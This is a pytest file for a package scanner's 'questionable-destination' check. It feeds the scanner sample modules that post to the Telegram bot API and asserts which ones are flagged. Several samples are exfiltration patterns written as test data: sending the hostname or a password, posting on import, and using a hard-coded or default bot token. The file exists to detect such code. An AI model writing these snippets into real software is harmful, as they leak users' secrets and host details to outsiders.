"""A hook whose token is a variable of the environment is that of whoever runs the program, as long as nothing private goes there."""

from __future__ import annotations

import pytest

from bonded.checks.registry import built_in
from tests.facts.programs import wheel_of

HEAD = "import os, socket, requests\nTOKEN = os.environ.get('BOT_TOKEN')\n"
DEFAULT = "123456:sample-sample-sample-sample"
URL = "f'https://api.telegram.org/bot{TOKEN}/sendMessage'"


def hits(source: str) -> int:
    one = next(each for each in built_in() if each.name == "questionable-destination")
    return len(list(one.run(wheel_of({"sample/__init__.py": HEAD + source}), None)))


def test_a_notice_to_ones_own_bot_is_no_hit() -> None:
    assert hits(f"def notify(text):\n    requests.post({URL}, data={{'text': text}})\n") == 0


@pytest.mark.parametrize(
    "source",
    [
        f"def notify(text):\n    requests.post({URL}, data=socket.gethostname())\n",
        f"def notify(password):\n    requests.post({URL}, data=password)\n",
        f"requests.post({URL}, data='here')\n",
        "def notify(text):\n    requests.post('https://api.telegram.org/bot12:sample/sendMessage', data=text)\n",
        f"TOKEN = os.environ.get('BOT_TOKEN', '{DEFAULT}')\ndef notify(text):\n    requests.post({URL}, data=text)\n",
    ],
    ids=["private data", "a password", "on import", "a token in the code", "a token by default"],
)
def test_what_another_one_may_hear_is_a_hit(source: str) -> None:
    assert hits(source) > 0
